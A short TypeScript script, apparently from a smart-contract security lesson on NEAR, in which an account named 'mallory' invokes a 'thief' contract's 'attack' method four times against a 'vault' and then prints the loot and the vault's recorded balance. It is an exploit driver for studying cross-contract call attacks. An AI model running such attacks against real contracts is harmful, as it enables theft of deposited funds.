import { Account } from 'near-api-js';
import { mallory, rpc, tera, thief, vault } from 'crosscall/lesson';

const account = new Account(mallory.id, rpc, mallory.signer);
try {
  await account.callFunction({
    contractId: thief.id,
    methodName: 'attack',
    args: { amount: (5n * 10n ** 24n).toString(), times: 4 },
    gas: 300n * tera,
  });
} catch (error) {
  console.log(String(error).split('\n')[0]);
}

const look = (contractId: string, method: string, args: Record<string, unknown>) =>
  rpc.callFunction({ contractId, method, args });
console.log('loot:', await look(thief.id, 'loot', {}));
console.log('on the books:', await look(vault.id, 'balance_of', { account_id: thief.id }));
